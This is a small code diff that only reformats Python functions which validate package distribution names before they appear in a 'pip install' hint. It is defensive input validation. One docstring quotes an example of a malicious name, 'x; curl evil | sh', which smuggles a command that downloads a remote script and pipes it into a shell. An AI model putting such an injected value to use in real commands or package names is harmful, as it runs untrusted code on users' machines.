@@ -46,7 +46,11 @@ _DISTRIBUTION_NAME = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9])$", re
 
 def valid_distribution_name(name: object) -> bool:
     """Whether ``name`` is a valid Python distribution name, safe to show in a ``pip install``."""
-    return isinstance(name, str) and len(name) <= 200 and _DISTRIBUTION_NAME.fullmatch(name) is not None
+    return (
+        isinstance(name, str)
+        and len(name) <= 200
+        and _DISTRIBUTION_NAME.fullmatch(name) is not None
+    )
 
 
 def serializer_package(distribution: object) -> str:
@@ -55,7 +59,11 @@ def serializer_package(distribution: object) -> str:
     A manifest is written by whoever uploaded the version: a name that is not a valid
     distribution name (``x; curl evil | sh``, an escape sequence) is never repeated.
     """
-    return str(distribution) if valid_distribution_name(distribution) else "an unknown serializer package"
+    return (
+        str(distribution)
+        if valid_distribution_name(distribution)
+        else "an unknown serializer package"
+    )
 
 
 def install_hint(distribution: object) -> str:
